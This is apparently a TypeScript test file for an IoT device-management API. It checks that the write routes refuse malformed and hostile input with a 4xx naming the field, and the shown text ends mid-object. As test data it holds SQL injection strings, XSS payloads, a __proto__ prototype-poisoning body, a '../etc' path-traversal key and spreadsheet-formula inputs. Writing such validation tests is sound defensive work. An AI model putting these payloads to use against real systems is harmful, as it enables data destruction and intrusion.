import fc from 'fast-check';
import type { InjectOptions, LightMyRequestResponse } from 'fastify';
import { beforeAll, describe, expect, it } from 'vitest';
import { isIdCursor } from '../../src/http/pagination.ts';
import { normaliseIdentifiers } from '../../src/services/assignment/request.ts';
import { luhnCheckDigit } from '../../src/services/identifiers.ts';
import { postAssignment } from '../helpers/assignments.ts';
import { freeDevices } from '../helpers/fleet.ts';
import { post, snapshotAll, submission, useInputWorld } from './strict-input.world.ts';

/**
 * Issue 10 item 1, hostile input, on every write route and the older entry points: malformed JSON,
 * wrong types, unknown and missing fields, oversized bodies, 100,001 devices, empty lists,
 * duplicates, malformed identifiers, control characters, injection strings, impossible dates, bad
 * ids and cursors. Each is refused with a clear 4xx naming the field (a JSON pointer in
 * `error.details`; the older entry points name it in `Message`), and no table gains or loses a row.
 * strict-input.test.ts holds the NUL, null and coercion cases; this file does not repeat them.
 * Tables first, then properties (fast-check) over the routes the OpenAPI document lists, so a new
 * write route is covered or fails the coverage check.
 */

const w = useInputWorld();
type Headers = Record<string, string>;
interface OpenApi {
  paths: Record<string, Record<string, Operation>>;
}
interface Operation {
  parameters?: { in: string; name: string; required?: boolean; schema: Schema }[];
  requestBody?: { content: Record<string, { schema: Schema }> };
}
interface Schema {
  type?: string | string[];
  properties?: Record<string, Schema>;
  anyOf?: Schema[];
  oneOf?: Schema[];
  const?: unknown;
  enum?: unknown[];
  pattern?: string;
  format?: string;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  nullable?: boolean;
}

let doc: OpenApi;
/** An open bulk change of northwind's admin (its devices pending: no worker runs here). */
let bulkChange: number;
let ids: {
  user: number;
  integration: number;
  token: number;
  device: number;
  msisdns: string[];
  webhook: number;
  syncRun: number;
};

const sql = async <T>(text: string, values: unknown[] = []) =>
  (await w.database.pool.query(text, values)).rows as T[];

beforeAll(async () => {
  doc = (await w.app.inject({ method: 'GET', url: '/docs/json' })).json<OpenApi>();
  // Past the two devices the world keeps free for the bodies below.
  const [, , third] = await freeDevices(w.database.pool, w.fleet.thingspace, 3);
  const res = await postAssignment(w.app, w.admin, { ...submission(w), devices: [third!] });
  expect(res.statusCode, res.body).toBe(202);
  bulkChange = res.json<{ id: number }>().id;
  const one = async (text: string, values: unknown[] = []) =>
    (await sql<{ id: number }>(text, values))[0]!.id;
  ids = {
    user: await one(`SELECT id FROM app_user WHERE email = 'viewer@northwind.example'`),
    integration: await one(
      `SELECT id FROM integration_credentials WHERE tenant_id = $1 AND integration = 'jasper'`,
      [w.fleet.tenantId],
    ),
    token: await one(
      `SELECT t.id FROM api_token t JOIN app_user u ON u.id = t.user_id WHERE u.email = 'admin@northwind.example' LIMIT 1`,
    ),
    device: await one('SELECT id FROM device WHERE tenant_id = $1 ORDER BY id LIMIT 1', [w.fleet.tenantId]),
    msisdns: (
      await sql<{ msisdn: string }>(
        `SELECT msisdn FROM device WHERE service_provider_id = $1 AND msisdn IS NOT NULL
         AND NOT EXISTS (SELECT 1 FROM device_tenant dt WHERE dt.device_id = device.id) ORDER BY id LIMIT 2`,
        [w.fleet.mobility],
      )
    ).map((r) => r.msisdn),
    webhook: await one(
      `INSERT INTO webhook_endpoint (tenant_id, url, secret) VALUES ($1, 'https://hooks.example/in', 'whsec_x')
       RETURNING id`,
      [w.fleet.tenantId],
    ),
    syncRun: await one(
      `INSERT INTO sync_run (tenant_id, kind, credentials_id, mode, status, deadline_at, finished_at)
       SELECT $1, 'customers', id, 'full', 'SUCCEEDED', now(), now() FROM integration_credentials
       WHERE tenant_id = $1 AND integration = 'revio' ORDER BY id LIMIT 1 RETURNING id`,
      [w.fleet.tenantId],
    ),
  };
});

// ---------------------------------------------------------------------------------------------
// What a refusal must look like.

interface Refusal {
  status: number;
  /** The offending field as a JSON pointer, checked in `error.details` (or in `Message`). */
  path?: string;
  in?: 'body' | 'params' | 'querystring' | 'headers';
  /** For refusals that concern no one field (not JSON, too large): the message says what. */
  message?: RegExp;
}

function expectRefusal(res: LightMyRequestResponse, want: Refusal) {
  expect(res.statusCode, res.body.slice(0, 400)).toBe(want.status);
  const body = res.json<{
    Success?: boolean;
    Message?: string;
    error?: { code: string; message: string; details?: { path: string; in?: string }[] };
  }>();
  if (body.Success !== undefined) {
    expect(body.Success).toBe(false);
    if (want.path !== undefined) expect(body.Message).toContain(want.path.split('/')[1]);
    if (want.message) expect(body.Message).toMatch(want.message);
    return;
  }
  expect(body.error?.code).toEqual(expect.any(String));
  if (want.message) expect(body.error?.message).toMatch(want.message);
  if (want.path !== undefined) {
    expect(body.error?.details).toEqual(
      expect.arrayContaining([
        expect.objectContaining(want.in ? { path: want.path, in: want.in } : { path: want.path }),
      ]),
    );
  }
}

interface Case extends Refusal {
  name: string;
  request: () => InjectOptions;
}
/** A case: `path` is the field's JSON pointer (or, with `status` 413 / a `message`, none). */
const refuse = (
  name: string,
  request: () => InjectOptions,
  path?: string,
  status = 400,
  more: Partial<Refusal> = {},
): Case => ({ name, request, status, ...(path === undefined ? {} : { path }), ...more });

/** Rows a refused request could change without adding or removing any (a cancel, a rename). */
const stateOf = async () => ({
  counts: await snapshotAll(w),
  bulkChanges: await sql('SELECT id, status, cancel_requested_at FROM bulk_change ORDER BY id'),
  users: await sql('SELECT id, name, role, active, password_hash FROM app_user ORDER BY id'),
  accounts: await sql('SELECT id, name, base_url, settings FROM integration_credentials ORDER BY id'),
  tokens: await sql('SELECT id, revoked_at, expires_at FROM api_token ORDER BY id'),
  webhooks: await sql('SELECT id, url, events, active, sealed_secret FROM webhook_endpoint ORDER BY id'),
  syncRuns: await sql('SELECT id, status FROM sync_run ORDER BY id'),
});

async function refusedInPlace(request: InjectOptions, want: Refusal) {
  const before = await stateOf();
  expectRefusal(await w.app.inject(request), want);
  expect(await stateOf()).toEqual(before);
}

const BULK = '/api/v1/bulk-changes';
const api = (method: 'POST' | 'PATCH' | 'DELETE', url: string, payload?: unknown, headers?: Headers) =>
  ({ ...post(url, payload, headers ?? w.admin), method }) as InjectOptions;
const get = (url: string) => (): InjectOptions => ({ method: 'GET', url, headers: w.admin });
const bulk =
  (change: Record<string, unknown>, drop: string[] = []) =>
  () => {
    const body: Record<string, unknown> = submission(w, change);
    for (const field of drop) delete body[field];
    return api('POST', BULK, body);
  };
/** Raw JSON: a valid submission with `"@X@"` replaced by what JSON.stringify cannot write. */
const bulkRaw = (change: Record<string, unknown>, raw: string) => () =>
  api('POST', BULK, JSON.stringify(submission(w, change)).replace('"@X@"', raw));
const iccids = (n: number) => Array.from({ length: n }, (_, i) => `8914800000${String(i).padStart(9, '0')}`);
const big = (bytes: number) => 'x'.repeat(bytes);
const rev = (products: unknown) => ({ createRevService: true, revService: { serviceTypeId: 3, products } });
const NOT_JSON = { message: /JSON/ };

const bulkCases: Case[] = [
  refuse('malformed JSON', () => api('POST', BULK, '{"changeType":'), undefined, 400, NOT_JSON),
  refuse('the body is an array', () => api('POST', BULK, '[]'), ''),
  refuse('the body is a string', () => api('POST', BULK, '"devices"'), ''),
  refuse(
    'a __proto__ key (prototype poisoning)',
    () => api('POST', BULK, JSON.stringify(submission(w)).replace('{', '{"__proto__":{"dryRun":true},')),
    undefined,
    400,
    NOT_JSON,
  ),
  refuse('an unknown field', bulk({ priority: 'high' }), '/priority'),
  refuse(
    'an unknown field in revService',
    bulk({ createRevService: true, revService: { serviceTypeId: 3, packageId: 1, surcharge: 1 } }),
    '/revService/surcharge',
  ),
  refuse(
    'an unknown field in filter',
    bulk({ filter: { q: '8914', colour: 'red' } }, ['devices']),
    '/filter/colour',
  ),
  refuse('customerId missing', bulk({}, ['customerId']), '/customerId'),
  refuse('serviceProviderId missing', bulk({}, ['serviceProviderId']), '/serviceProviderId'),
  refuse('changeType missing', bulk({}, ['changeType']), '/changeType'),
  refuse('an unknown changeType', bulk({ changeType: 'customer_unassignment' }), '/changeType'),
  refuse('an empty device list', bulk({ devices: [] }), '/devices'),
  refuse('neither devices nor filter', bulk({}, ['devices']), '/devices'),
  refuse('both devices and a filter', bulk({ filter: { unassigned: true } }), '/devices'),
  refuse('a device of 65 characters', bulk({ devices: ['8'.repeat(65)] }), '/devices/0'),
  refuse('100,001 devices', bulk({ devices: iccids(100_001) }), undefined, 413, { message: /100,000/ }),
  refuse('a body over 16 MB', bulk({ devices: [big(17 * 1024 * 1024)] }), undefined, 413, {
    message: /too large/,
  }),
  refuse('effectiveDate 2025-02-30', bulk({ effectiveDate: '2025-02-30' }), '/effectiveDate'),
  refuse('effectiveDate 2025-13-01', bulk({ effectiveDate: '2025-13-01' }), '/effectiveDate'),
  refuse('activatedDate 0000-00-00', bulk({ activatedDate: '0000-00-00' }), '/activatedDate'),
  refuse('activatedDate with a time', bulk({ activatedDate: '2025-01-01T00:00:00Z' }), '/activatedDate'),
  refuse('customerId -1', bulk({ customerId: -1 }), '/customerId'),
  refuse('customerId 0', bulk({ customerId: 0 }), '/customerId'),
  refuse('customerId 1.5', bulk({ customerId: 1.5 }), '/customerId'),
  refuse('customerId 2^63', bulkRaw({ customerId: '@X@' }, '9223372036854775808'), '/customerId'),
  refuse('customerId 1e400 (Infinity once parsed)', bulkRaw({ customerId: '@X@' }, '1e400'), '/customerId'),
  refuse('customerId "1; DROP TABLE device"', bulk({ customerId: '1; DROP TABLE device' }), '/customerId'),
  refuse('serviceProviderId 1e308', bulk({ serviceProviderId: 1e308 }), '/serviceProviderId'),
  refuse('siteId -5', bulk({ siteId: -5 }), '/siteId'),
  refuse('reassign "yes"', bulk({ reassign: 'yes' }), '/reassign'),
  refuse('a negative rate', bulk(rev([{ productId: 11, rate: -1 }])), '/revService/products/0/rate'),
  refuse(
    'a rate of 1e400',
    bulkRaw(rev([{ productId: 11, rate: '@X@' }]), '1e400'),
    '/revService/products/0/rate',
  ),
  refuse(
    '51 products',
    bulk(rev(Array.from({ length: 51 }, (_, i) => ({ productId: i + 1, rate: 1 })))),
    '/revService/products',
  ),
  refuse(
    'a customer rate plan id 1.5',
    bulk({ addCustomerRatePlan: true, customerRatePlan: { ratePlanId: 1.5 } }),
    '/customerRatePlan/ratePlanId',
  ),
  ...["' OR '1'='1", '<script>alert(1)</script>'].map((ratePlan) =>
    refuse(
      `a carrier rate plan ${ratePlan}`,
      bulk({ addCarrierRatePlan: true, carrierRatePlan: { ratePlan } }),
      '/carrierRatePlan/ratePlan',
      422,
    ),
  ),
  refuse(`a filter search "1' OR '1'='1"`, bulk({ filter: { q: "1' OR '1'='1" } }, ['devices']), '/filter/q'),
  refuse(
    'a filter status "active; DROP"',
    bulk({ filter: { status: 'active; DROP' } }, ['devices']),
    '/filter/status',
  ),
  refuse(
    'a filter both owned by a customer and unassigned',
    bulk({ filter: { customerId: 1, unassigned: true } }, ['devices']),
    '/filter/unassigned',
  ),
  refuse(
    'an Idempotency-Key of 201 characters',
    () => ({ ...bulk({})(), headers: { ...w.admin, 'idempotency-key': 'k'.repeat(201) } }),
    '/idempotency-key',
    400,
    { in: 'headers' },
  ),
];

/** Ids and numbers as a query string or path carries them: `1e400` and `Infinity` are Infinity to Ajv. */
const BAD_IDS = ['-1', '0', '1.5', 'abc', '9223372036854775808', '1e400', '-Infinity'];
const PARAMS = { in: 'params' as const };
const QUERY = { in: 'querystring' as const };
const idCases: Case[] = [
  refuse('GET a bulk change 1e400', get(`${BULK}/1e400`), '/id', 400, PARAMS),
  refuse('GET the history of device -Infinity', get('/api/v1/devices/-Infinity/history'), '/id', 400, PARAMS),
  refuse('GET bulk changes, limit 1e400', get(`${BULK}?limit=1e400`), '/limit', 400, QUERY),
  refuse(
    'GET the Rev.io catalogue of customer 1e400',
    get('/api/v1/customers/1e400/rev-catalogue'),
    '/id',
    400,
    PARAMS,
  ),
  refuse(
    'GET devices of customer Infinity',
    get('/api/v1/devices?customerId=Infinity'),
    '/customerId',
    400,
    QUERY,
  ),
  refuse('GET the device 1e400', get('/api/v1/devices/1e400'), '/id', 400, PARAMS),
  refuse(
    'GET devices sorted by "iccid; DROP"',
    get('/api/v1/devices?sort=iccid;%20DROP'),
    '/sort',
    400,
    QUERY,
  ),
  refuse(
    'GET devices on a plan of 101 characters',
    get(`/api/v1/devices?carrierRatePlan=${'P'.repeat(101)}`),
    '/carrierRatePlan',
    400,
    QUERY,
  ),
  refuse('GET the device count up to 0', get('/api/v1/devices/count?upTo=0'), '/upTo', 400, QUERY),
  refuse('GET the events of bulk change -1', get(`${BULK}/-1/events`), '/id', 400, PARAMS),
  refuse(
    "GET the log of step \"1' OR '1'='1\"",
    get(`${BULK}/1/logs?step=1'%20OR%20'1'='1`),
    '/step',
    400,
    QUERY,
  ),
  refuse('GET the log of ICCID "89\' --"', get(`${BULK}/1/logs?iccid=89'%20--`), '/iccid', 400, QUERY),
  refuse(
    'undo with dryRun "true" (a string)',
    () => api('POST', `${BULK}/${bulkChange}/undo`, { dryRun: 'true' }),
    '/dryRun',
  ),
  ...(['cancel', 'retry', 'undo'] as const).flatMap((action) => [
    ...BAD_IDS.map((id) =>
      refuse(`${action} of id ${id}`, () => api('POST', `${BULK}/${id}/${action}`), '/id', 400, PARAMS),
    ),
    refuse(
      `${action} with malformed JSON`,
      () => api('POST', `${BULK}/${bulkChange}/${action}`, '{'),
      undefined,
      400,
      NOT_JSON,
    ),
    refuse(
      `${action} with a body over 1 KB`,
      () => api('POST', `${BULK}/${bulkChange}/${action}`, { note: big(2048) }),
      undefined,
      413,
    ),
    refuse(
      `${action} with an unknown field`,
      () => api('POST', `${BULK}/${bulkChange}/${action}`, { force: true }),
      '/force',
    ),
  ]),
];

const LOGIN = '/api/v1/auth/login';
const TOKENS = '/api/v1/auth/tokens';
const credentials = { email: 'admin@northwind.example', password: 'admin-demo' };
const login = (body: unknown) => () => api('POST', LOGIN, body, {});
const token = (body: unknown) => () => api('POST', TOKENS, body, w.session);
const SETUP = '/api/v1/setup';
const setupForm = {
  setupCode: '0f3a9c1e5b7d2f4a6c8e0b1d3f5a7c9e',
  tenantName: 'Acme IoT',
  adminEmail: 'admin@acme.example',
  adminName: 'Ada',
  password: 'a-long-enough-password',
};
const setup = (body: unknown) => () => api('POST', SETUP, body, {});
const authCases: Case[] = [
  refuse('login: malformed JSON', login('{"email":'), undefined, 400, NOT_JSON),
  refuse('login: an array', login('[]'), ''),
  refuse('login: password missing', login({ email: credentials.email }), '/password'),
  refuse(
    'login: an unknown field',
    login({ ...credentials, password: 'wrong', remember: true }),
    '/remember',
  ),
  refuse(
    'login: an e-mail of 321 characters',
    login({ ...credentials, email: `${'a'.repeat(309)}@example.com` }),
    '/email',
  ),
  refuse('login: an empty password', login({ ...credentials, password: '' }), '/password'),
  refuse('login: a body over 8 KB', login({ ...credentials, password: big(9000) }), undefined, 413),
  refuse(
    'logout: malformed JSON',
    () => api('POST', '/api/v1/auth/logout', '{', {}),
    undefined,
    400,
    NOT_JSON,
  ),
  refuse('token: name missing', token({}), '/name'),
  refuse('token: an empty name', token({ name: '' }), '/name'),
  refuse('token: a name of 101 characters', token({ name: 'n'.repeat(101) }), '/name'),
  ...[0, -1, 1.5, 3651, 1e308].map((days) =>
    refuse(`token: expiresInDays ${days}`, token({ name: 'ci', expiresInDays: days }), '/expiresInDays'),
  ),
  // With an invalid expiry too, so that a body taken with the field ignored still writes nothing.
  refuse(
    'token: an unknown field (scope)',
    token({ name: 'ci', scope: 'read-only', expiresInDays: 0 }),
    '/scope',
  ),
  refuse('token: a body over 8 KB', token({ name: big(9000) }), undefined, 413),
  refuse('setup: malformed JSON', setup('{"setupCode":'), undefined, 400, NOT_JSON),
  refuse('setup: password missing', setup({ ...setupForm, password: undefined }), '/password'),
  refuse('setup: an empty setup code', setup({ ...setupForm, setupCode: '' }), '/setupCode'),
  refuse('setup: an unknown field', setup({ ...setupForm, role: 'admin' }), '/role'),
  refuse(
    'setup: a tenant name of 201 characters',
    setup({ ...setupForm, tenantName: 'n'.repeat(201) }),
    '/tenantName',
  ),
  refuse('setup: a body over 8 KB', setup({ ...setupForm, adminName: big(9000) }), undefined, 413),
  refuse(
    'password: newPassword missing',
    () => api('POST', '/api/v1/auth/password', { currentPassword: 'admin-demo' }),
    '/newPassword',
  ),
  refuse(
    'password: an unknown field',
    () => api('POST', '/api/v1/auth/password', { currentPassword: 'x', newPassword: 'y', userId: 1 }),
    '/userId',
  ),
];

const USERS = '/api/v1/users';
const INTEGRATIONS = '/api/v1/integrations';
const jasper = {
  integration: 'jasper',
  name: 'Hostile',
  baseUrl: 'https://jasper.example',
  settings: { username: 'u' },
  secrets: { apiKey: 'k' },
};
const person = { email: 'x@northwind.example', name: 'X', role: 'viewer' };
const user = (change: Record<string, unknown>) => () => api('POST', USERS, { ...person, ...change });
const account = (change: Record<string, unknown>) => () =>
  api('POST', INTEGRATIONS, { ...jasper, ...change });
const provider = (change: Record<string, unknown>) => () =>
  api('POST', '/api/v1/service-providers', {
    name: 'S',
    credentialsId: ids.integration,
    portalType: 'm2m',
    ...change,
  });
const adminCases: Case[] = [
  refuse('user: not an e-mail', user({ email: 'not-an-email' }), '/email'),
  refuse('user: role "root"', user({ role: 'root' }), '/role'),
  refuse('user: customer id -1', user({ customerIds: [-1] }), '/customerIds/0'),
  refuse("user: another tenant's customer", user({ customerIds: [999_999] }), '/customerIds', 422),
  refuse('user: an unknown field', user({ isAdmin: true }), '/isAdmin'),
  refuse('user: a name of 201 characters', user({ name: 'n'.repeat(201) }), '/name'),
  refuse('user change: empty', () => api('PATCH', `${USERS}/${ids.user}`, {}), ''),
  refuse(
    'user change: active "false"',
    () => api('PATCH', `${USERS}/${ids.user}`, { active: 'false' }),
    '/active',
  ),
  refuse('user change: id "abc"', () => api('PATCH', `${USERS}/abc`, { name: 'X' }), '/id', 400, PARAMS),
  refuse('integration: baseUrl javascript:', account({ baseUrl: 'javascript:alert(1)' }), '/baseUrl'),
  refuse(
    'integration: credentials in the baseUrl',
    account({ baseUrl: 'https://u:p@jasper.example' }),
    '/baseUrl',
  ),
  refuse('integration: an unknown integration', account({ integration: 'salesforce' }), '/integration'),
  // RFC 6901: the "/" inside the key is written "~1".
  refuse(
    'integration: a setting named "../etc"',
    account({ settings: { username: 'u', '../etc': 'x' } }),
    '/settings/..~1etc',
  ),
  refuse('integration: a setting missing', account({ settings: {} }), '/settings/username'),
  refuse(
    'integration: a rate limit of 0 requests',
    account({ rateLimit: { requests: 0, windowMs: 1000 } }),
    '/rateLimit/requests',
  ),
  refuse('integration change: empty', () => api('PATCH', `${INTEGRATIONS}/${ids.integration}`, {}), ''),
  refuse(
    'integration change: baseUrl ftp://',
    () => api('PATCH', `${INTEGRATIONS}/${ids.integration}`, { baseUrl: 'ftp://jasper.example' }),
    '/baseUrl',
  ),
  refuse(
    'integration test: id 2^63',
    () => api('POST', `${INTEGRATIONS}/9223372036854775808/test`),
    '/id',
    400,
    PARAMS,
  ),
  refuse(
    'catalogue refresh: id 2^63',
    () => api('POST', `${INTEGRATIONS}/9223372036854775808/catalogue/refresh`),
    '/id',
    400,
    PARAMS,
  ),
  refuse(
    'catalogue refresh: malformed JSON',
    () => api('POST', `${INTEGRATIONS}/${ids.integration}/catalogue/refresh`, '{'),
    undefined,
    400,
    NOT_JSON,
  ),
  refuse(
    'catalogue refresh: a body over 1 KB',
    () => api('POST', `${INTEGRATIONS}/${ids.integration}/catalogue/refresh`, { note: big(2048) }),
    undefined,
    413,
  ),
  refuse('service provider: portal "satellite"', provider({ portalType: 'satellite' }), '/portalType'),
  refuse(
    'service provider: credentialsId 2^63',
    () =>
      api(
        'POST',
        '/api/v1/service-providers',
        '{"name":"S","credentialsId":9223372036854775808,"portalType":"m2m"}',
      ),
    '/credentialsId',
  ),
  refuse('customer: kind "vip"', () => api('POST', '/api/v1/customers', { name: 'C', kind: 'vip' }), '/kind'),
  refuse(
    'customer: an unknown field',
    () => api('POST', '/api/v1/customers', { name: 'C', kind: 'amop', creditLimit: 1 }),
    '/creditLimit',
  ),
  refuse(
    'site: customer id -1',
    () => api('POST', '/api/v1/customers/-1/sites', { name: 'S' }),
    '/id',
    400,
    PARAMS,
  ),
  refuse(
    'rate plan: a negative monthly rate',
    () => api('POST', '/api/v1/rate-plans', { code: 'X', name: 'X', dataAllocationMb: 1, monthlyRate: -1 }),
    '/monthlyRate',
  ),
  refuse(
    'rate pool: sharedDataMb as a string',
    () => api('POST', '/api/v1/rate-pools', { name: 'P', sharedDataMb: '100' }),
    '/sharedDataMb',
  ),
  refuse(
    'customer import: an empty file',
    () => api('POST', '/api/v1/customers/import', { csv: '' }),
    '/csv',
  ),
  refuse(
    'customer import: a row with a control character and a kind "vip"',
    () => api('POST', '/api/v1/customers/import', { csv: 'name,kind\nA\u0007B,vip\n' }),
    '/rows/2/name',
  ),
  refuse(
    'customer import: a header with an injection string',
    () =>
      api('POST', '/api/v1/customers/import', {
        csv: 'name,kind,"x\'); DROP TABLE customer;--"\nA,amop,1\n',
      }),
    '/csv/header',
  ),
  refuse(
    'device import: an empty file',
    () => api('POST', `/api/v1/service-providers/${w.fleet.thingspace}/devices/import`, { csv: '' }),
    '/csv',
  ),
];

const CALLBACK = `/api/v1/carrier-callbacks/thingspace/${'t'.repeat(43)}`;
const callbackCases: Case[] = [
  refuse('callback: malformed JSON', () => api('POST', CALLBACK, '{', {}), undefined, 400, NOT_JSON),
  refuse(
    'callback: an unknown token',
    () => api('POST', CALLBACK, { requestId: 'r', status: 'Success', deviceIds: [] }, {}),
    undefined,
    404,
  ),
  refuse(
    'callback: a body over 64 KB',
    () => api('POST', CALLBACK, { requestId: big(70_000) }, {}),
    undefined,
    413,
  ),
];

/** The older entry points, each portal: `Message` names the field as the older body does. */
const legacyCases: Case[] = (['M2M', 'Mobility'] as const).flatMap((portal) => {
  const provider = () => (portal === 'M2M' ? w.fleet.thingspace : w.fleet.mobility);
  const devices = () => (portal === 'M2M' ? w.devices : ids.msisdns);
  const amop = (change: Record<string, unknown>) => () =>
    api('POST', `/${portal}/AssociateAmopCustomer`, {
      Devices: devices(),
      ServiceProviderId: provider(),
      SiteId: w.fleet.amopCustomer.defaultSiteId,
      ...change,
    });
  const revCustomer = (change: Record<string, unknown>) => () =>
    api('POST', `/${portal}/AssociateCustomer`, {
      Devices: devices(),
      ServiceProviderId: provider(),
      RevCustomerId: w.fleet.revCustomer.revCustomerId,
      ...change,
    });
  const other = () => (portal === 'M2M' ? w.fleet.mobility : w.fleet.thingspace);
  return [
    refuse(`${portal}: an unknown field`, amop({ Priority: 'high' }), '/Priority'),
    refuse(`${portal}: Devices missing`, amop({ Devices: undefined }), '/Devices'),
    refuse(`${portal}: an empty device list`, amop({ Devices: [] }), '/Devices'),
    refuse(`${portal}: 100,001 devices`, amop({ Devices: iccids(100_001) }), undefined, 413, {
      message: /100,000/,
    }),
    refuse(`${portal}: SiteId -1`, amop({ SiteId: -1 }), '/SiteId'),
    refuse(`${portal}: SiteId "1.5"`, amop({ SiteId: '1.5' }), '/SiteId'),
    refuse(
      `${portal}: a provider of the other portal`,
      () => amop({ ServiceProviderId: other() })(),
      '/ServiceProviderId',
      422,
    ),
    refuse(
      `${portal}: EffectiveDate 2025-02-30Z`,
      revCustomer({ EffectiveDate: '2025-02-30Z' }),
      '/EffectiveDate',
    ),
    refuse(
      `${portal}: a rate "abc"`,
      revCustomer({ CreateRevService: true, ServiceTypeId: 3, RevProductIdList: [11], RateList: ['abc'] }),
      '/RateList',
    ),
    refuse(
      `${portal}: CarrierRatePlan "' OR 1=1 --"`,
      revCustomer({ AddCarrierRatePlan: true, CarrierRatePlan: "' OR 1=1 --" }),
      '/CarrierRatePlan',
      422,
    ),
  ];
});

describe('hostile input, case by case: a clear 4xx naming the field, and no row written', () => {
  it.each([...bulkCases.map((c) => ({ ...c, name: `POST /bulk-changes, ${c.name}` })), ...idCases])(
    '$name → $status $path',
    async (c) => refusedInPlace(c.request(), c),
  );
  it.each([...authCases, ...adminCases, ...callbackCases, ...legacyCases])(
    '$name → $status $path',
    async (c) => refusedInPlace(c.request(), c),
  );
});

interface Verdict {
  identifier: string;
  eligible: boolean;
  message: string | null;
}

/**
 * Not refusals, by design: a device that cannot be assigned is a per-device verdict, not a failed
 * request ("ineligible devices are recorded as errors"). A dry run shows each verdict, writes nothing.
 */
describe('duplicates and malformed identifiers are per-device verdicts (dry run: nothing written)', () => {
  const dryRun = async (devices: string[], serviceProviderId = w.fleet.thingspace) => {
    const before = await stateOf();
    const res = await postAssignment(w.app, w.admin, {
      ...submission(w),
      serviceProviderId,
      devices,
      dryRun: true,
    });
    expect(res.statusCode, res.body).toBe(200);
    expect(await stateOf()).toEqual(before);
    return res.json<{ duplicates: string[]; counts: { total: number }; devices: Verdict[] }>();
  };
  const payload = '891480000012345678';
  const wrongCheckDigit = `${payload}${(Number(luhnCheckDigit(payload)) + 1) % 10}`;

  it('folds duplicates, as typed or pasted with spaces and dashes, into one device', async () => {
    const id = w.devices[0]!;
    const spaced = `${id.slice(0, 4)} ${id.slice(4, 10)}-${id.slice(10)}`;
    const res = await dryRun([id, id, ` ${id} `, spaced]);
    expect(res.duplicates).toEqual([id]);
    expect(res.counts.total).toBe(1);
  });

  it.each([
    ['letters', 'abcdefghijklmnopqrs', /Not an ICCID/],
    ['too short', '8914800000', /Not an ICCID/],
    ['a wrong check digit', wrongCheckDigit, /check digit/],
    ['a formula', '=1+2', /Not an ICCID/],
    ['control characters', '\u0001\u001b[2J\u007f', /Not an ICCID/],
    ['a right-to-left override', '8914\u202e800000000000000', /Not an ICCID/],
  ])('an ICCID with %s: not an ICCID, named', async (_what, identifier, why) => {
    const [verdict] = (await dryRun([identifier])).devices;
    expect(verdict).toMatchObject({ eligible: false });
    expect(verdict!.message).toMatch(why);
  });

  it.each([
    ['too short', '123456'],
    ['too long', '1234567890123456'],
    ['letters', 'call-me-maybe'],
  ])('an MSISDN %s, on a Mobility provider: not an MSISDN, named', async (_what, identifier) => {
    const [verdict] = (await dryRun([identifier], w.fleet.mobility)).devices;
    expect(verdict).toMatchObject({
      eligible: false,
      message: expect.stringMatching(/Not an MSISDN/) as string,
    });
  });
});

// ---------------------------------------------------------------------------------------------
// Properties. The routes come from the OpenAPI document (every API route is in it), so a new write
// route or parameter is fuzzed too, or fails the coverage check for want of a valid base request.

interface Base {
  url: string;
  body?: Record<string, unknown>;
  headers?: Headers;
}
/** The older entry points: each portal's pair, with devices of the portal's kind. */
function legacyBases(): Record<string, () => Base> {
  const bases: Record<string, () => Base> = {};
  for (const portal of ['M2M', 'Mobility'] as const) {
    const common = () => ({
      Devices: portal === 'M2M' ? w.devices : ids.msisdns,
      ServiceProviderId: portal === 'M2M' ? w.fleet.thingspace : w.fleet.mobility,
    });
    bases[`POST /${portal}/AssociateCustomer`] = () => ({
      url: `/${portal}/AssociateCustomer`,
      body: { ...common(), RevCustomerId: w.fleet.revCustomer.revCustomerId },
    });
    bases[`POST /${portal}/AssociateAmopCustomer`] = () => ({
      url: `/${portal}/AssociateAmopCustomer`,
      body: { ...common(), SiteId: w.fleet.amopCustomer.defaultSiteId },
    });
  }
  return bases;
}

/** A valid request of each write route with a body; a submission is a dry run, so nothing is written. */
const BASES: Record<string, () => Base> = {
  'POST /api/v1/bulk-changes': () => ({ url: BULK, body: submission(w, { dryRun: true }) }),
  ...legacyBases(),
  'POST /api/v1/auth/login': () => ({ url: LOGIN, body: credentials, headers: {} }),
  // The world has tenants: a valid body answers 409, and nothing is ever written.
  'POST /api/v1/setup': () => ({ url: SETUP, body: setupForm, headers: {} }),
  'POST /api/v1/auth/tokens': () => ({
    url: TOKENS,
    body: { name: 'ci', expiresInDays: 30 },
    headers: w.session,
  }),
  'POST /api/v1/auth/password': () => ({
    url: '/api/v1/auth/password',
    body: { currentPassword: 'admin-demo', newPassword: 'a-long-new-password' },
  }),
  'POST /api/v1/users': () => ({
    url: USERS,
    body: { email: 'new@northwind.example', name: 'New', role: 'viewer', customerIds: null },
  }),
  'PATCH /api/v1/users/{id}': () => ({
    url: `${USERS}/${ids.user}`,
    body: { name: 'Viewer', role: 'viewer', active: true, customerIds: null },
  }),
  'POST /api/v1/integrations': () => ({ url: INTEGRATIONS, body: { ...jasper, rateLimit: null } }),
  'PATCH /api/v1/integrations/{id}': () => ({
    url: `${INTEGRATIONS}/${ids.integration}`,
    body: { ...jasper, integration: undefined, rateLimit: { requests: 10, windowMs: 1000 } },
  }),
  'POST /api/v1/service-providers': () => ({
    url: '/api/v1/service-providers',
    body: { name: 'New', credentialsId: ids.integration, portalType: 'm2m' },
  }),
  'POST /api/v1/customers': () => ({
    url: '/api/v1/customers',
    body: { name: 'New', kind: 'rev', revCustomerId: 5, revCredentialsId: 1, site: { name: 'HQ' } },
  }),
  'POST /api/v1/customers/import': () => ({
    url: '/api/v1/customers/import',
    body: { csv: 'name,kind\nNew,amop\n' },
  }),
  'POST /api/v1/customers/{id}/sites': () => ({
    url: `/api/v1/customers/${w.fleet.amopCustomer.id}/sites`,
    body: { name: 'New', address: 'Main St', isDefault: false },
  }),
  'POST /api/v1/rate-plans': () => ({
    url: '/api/v1/rate-plans',
    body: { code: 'NEW', name: 'New', dataAllocationMb: 100, monthlyRate: 5 },
  }),
  'POST /api/v1/rate-pools': () => ({ url: '/api/v1/rate-pools', body: { name: 'New', sharedDataMb: 100 } }),
  'POST /api/v1/service-providers/{id}/devices/import': () => ({
    url: `/api/v1/service-providers/${w.fleet.thingspace}/devices/import`,
    body: { csv: 'iccid\n89148000000000000000\n' },
  }),
  'POST /api/v1/service-providers/{id}/sync': () => ({
    url: `/api/v1/service-providers/${w.fleet.jasper}/sync`,
    body: { mode: 'full' },
  }),
  'POST /api/v1/integrations/{id}/sync': () => ({
    url: `${INTEGRATIONS}/${ids.integration}/sync`,
    body: { mode: 'full' },
  }),
